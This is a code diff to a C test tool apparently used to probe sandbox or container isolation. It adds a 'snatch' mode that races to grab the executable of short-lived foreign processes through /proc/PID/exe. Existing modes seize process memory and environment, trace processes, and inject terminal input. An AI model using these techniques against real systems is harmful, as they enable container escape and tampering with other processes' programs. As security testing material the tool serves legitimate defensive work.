@@ -8,6 +8,7 @@
  *   attack write PATH...         open for writing (nothing is written)
  *   attack exe PATH              write to a program by its magic link, change its mount, copy it
  *   attack hunt SECONDS          lie in wait for foreign processes and seize whatever they hold
+ *   attack snatch SECONDS        the same, for their program alone
  *   attack swap SECONDS A B      exchange two names as fast as possible
  *   attack tty TEXT              type TEXT into the terminal of whoever called
  *   attack handle PATH           open the root directory of PATH's file system by its handle
@@ -154,13 +155,26 @@ static void trace(int pid)
 	waitpid(child, NULL, 0);
 }
 
-static void assault(int pid)
+static bool seize_exe(int pid)
 {
 	char path[64];
 	int exe;
 
+	snprintf(path, sizeof path, "/proc/%d/exe", pid);
+	exe = open(path, O_RDONLY | O_CLOEXEC);
+	if (exe < 0)
+		return false;
+	if (is_entering(pid)) {
+		say("exe", 0);
+		attack_held(exe);
+	}
+	close(exe);
+	return true;
+}
+
+static void assault(int pid)
+{
 	puts("met ok");
-	fflush(stdout);
 	seize(pid, "mem", O_RDWR);
 	seize(pid, "environ", O_RDONLY);
 	seize(pid, "maps", O_RDONLY);
@@ -174,18 +188,20 @@ static void assault(int pid)
 		seize(pid, name, O_PATH);
 	}
 	trace(pid);
-	snprintf(path, sizeof path, "/proc/%d/exe", pid);
-	exe = open(path, O_RDONLY | O_CLOEXEC);
-	if (exe >= 0 && is_entering(pid)) {
-		say("exe", 0);
-		attack_held(exe);
-	}
-	if (exe >= 0)
-		close(exe);
+	fflush(stdout);
+}
+
+/* The program that the runtime becomes for "#!/proc/self/exe" lives for a millisecond. */
+static void snatch(int pid)
+{
+	puts("met ok");
+	while (is_entering(pid) && !seize_exe(pid))
+		;
+	fflush(stdout);
 }
 
 /* Pids are given out in order, so the next ones are asked for before they are there. */
-static void attack_hunt(double seconds)
+static void attack_hunt(double seconds, void (*meet)(int pid))
 {
 	double end = now() + seconds;
 	int self = getpid(), top = self;
@@ -198,7 +214,7 @@ static void attack_hunt(double seconds)
 				continue;
 			if (pid > top)
 				top = pid;
-			assault(pid);
+			meet(pid);
 		}
 		while (kill(top + 1, 0) == 0 || errno == EPERM)
 			top++;
@@ -343,7 +359,9 @@ int main(int argc, char **argv)
 	else if (strcmp(what, "exe") == 0 && argc == 3)
 		attack_exe(argv[2]);
 	else if (strcmp(what, "hunt") == 0 && argc == 3)
-		attack_hunt(atof(argv[2]));
+		attack_hunt(atof(argv[2]), assault);
+	else if (strcmp(what, "snatch") == 0 && argc == 3)
+		attack_hunt(atof(argv[2]), snatch);
 	else if (strcmp(what, "swap") == 0 && argc == 5)
 		attack_swap(atof(argv[2]), argv[3], argv[4]);
 	else if (strcmp(what, "tty") == 0 && argc == 3)
